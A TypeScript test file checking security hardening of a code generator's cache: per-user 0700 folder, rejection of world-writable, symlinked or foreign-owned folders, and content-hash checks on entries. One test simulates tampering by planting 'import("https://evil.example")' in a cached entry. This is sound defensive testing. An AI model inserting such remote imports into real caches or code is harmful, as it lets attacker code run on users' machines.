import { chmodSync, chownSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { cacheDir, openCache } from "../../generator/run-cache";
import { FormatCache } from "../../generator/pipeline/format/cache";
import { scratch, trySymlink } from "./helpers";

/**
 * Finding 8: the cache is never in the shared temp folder; a per-user one is created 0700 and
 * used only while it is a real directory of this user that nobody else can write; an entry is
 * used only when its content hash checks.
 */

const tmp = scratch("cache");
afterAll(tmp.cleanup);
const posix = typeof process.getuid === "function";

describe("where the cache lives (finding 8)", () => {
  const cases = [
    { given: "a project with node_modules", nodeModules: true, env: {}, want: (cwd: string) => path.join(cwd, "node_modules", ".cache", "openapi-morph") },
    { given: "no node_modules, XDG_CACHE_HOME set", nodeModules: false, env: { XDG_CACHE_HOME: "/x/cache" }, want: () => "/x/cache/openapi-morph" },
    { given: "no node_modules, a relative XDG_CACHE_HOME (ignored, as the spec says)", nodeModules: false, env: { XDG_CACHE_HOME: "rel" }, want: () => path.join(os.homedir(), ".cache", "openapi-morph") },
    { given: "no node_modules, no XDG_CACHE_HOME", nodeModules: false, env: {}, want: () => path.join(os.homedir(), ".cache", "openapi-morph") },
  ];
  test.each(cases)("$given", ({ given, nodeModules, env, want }) => {
    const cwd = path.join(tmp.dir(), given.replace(/\W+/g, "-"));
    mkdirSync(nodeModules ? path.join(cwd, "node_modules") : cwd, { recursive: true });
    const { dir } = cacheDir(cwd, env);
    expect(dir).toBe(want(cwd));
    if (!nodeModules) expect(dir.startsWith(os.tmpdir())).toBe(false);
  });

  test("a per-user folder is created 0700", () => {
    const cwd = path.join(tmp.dir(), "bare");
    mkdirSync(cwd);
    const xdg = path.join(tmp.dir(), "xdg");
    const cache = openCache(cwd, { XDG_CACHE_HOME: xdg });
    expect(cache?.dir).toBe(path.join(xdg, "openapi-morph"));
    if (posix) expect(statSync(cache!.dir).mode & 0o777).toBe(0o700);
  });
});

describe("a folder that is not safely ours is not used (finding 8)", () => {
  const cases: { given: string; setup: (dir: string) => boolean }[] = [
    { given: "writable by others", setup: (dir) => (mkdirSync(dir), chmodSync(dir, 0o777), posix) },
    { given: "a symlink to another folder", setup: (dir) => (mkdirSync(`${dir}-target`, { mode: 0o700 }), trySymlink(`${dir}-target`, dir)) },
    { given: "owned by another user", setup: (dir) => (mkdirSync(dir, { mode: 0o700 }), tryChown(dir)) },
  ];
  test.each(cases)("$given", ({ given, setup }) => {
    const dir = path.join(tmp.dir(), given.replace(/\W+/g, "-"));
    if (!setup(dir)) return; // the platform cannot make this case (no symlinks, not root for chown)
    expect(openCache(tmp.dir(), { OPENAPI_MORPH_CACHE: dir })).toBeUndefined();
  });
});


function tryChown(dir: string): boolean {
  if (!posix || process.getuid!() !== 0) return false;
  chownSync(dir, 65534, 65534);
  return true;
}

describe("entries are checked against their hash (finding 8)", () => {
  test("an edited entry is a miss, an intact one a hit", () => {
    const dir = path.join(tmp.dir(), "entries");
    const cache = openCache(tmp.dir(), { OPENAPI_MORPH_CACHE: dir })!;
    const first = new FormatCache(cache, "out");
    first.set("type A = 1", "type A = 1;\n");
    first.save();
    expect(new FormatCache(cache, "out").get("type A = 1")).toBe("type A = 1;\n");
    const [file] = readdirSync(dir).filter((f) => f.startsWith("prettier-"));
    const text = readFileSync(path.join(dir, file), "utf8");
    // The attacker's version of the statement: valid JSON, wrong hash.
    writeFileSync(path.join(dir, file), text.replace("type A = 1;", 'import("https://evil.example");'));
    expect(new FormatCache(cache, "out").get("type A = 1")).toBeUndefined();
  });
});
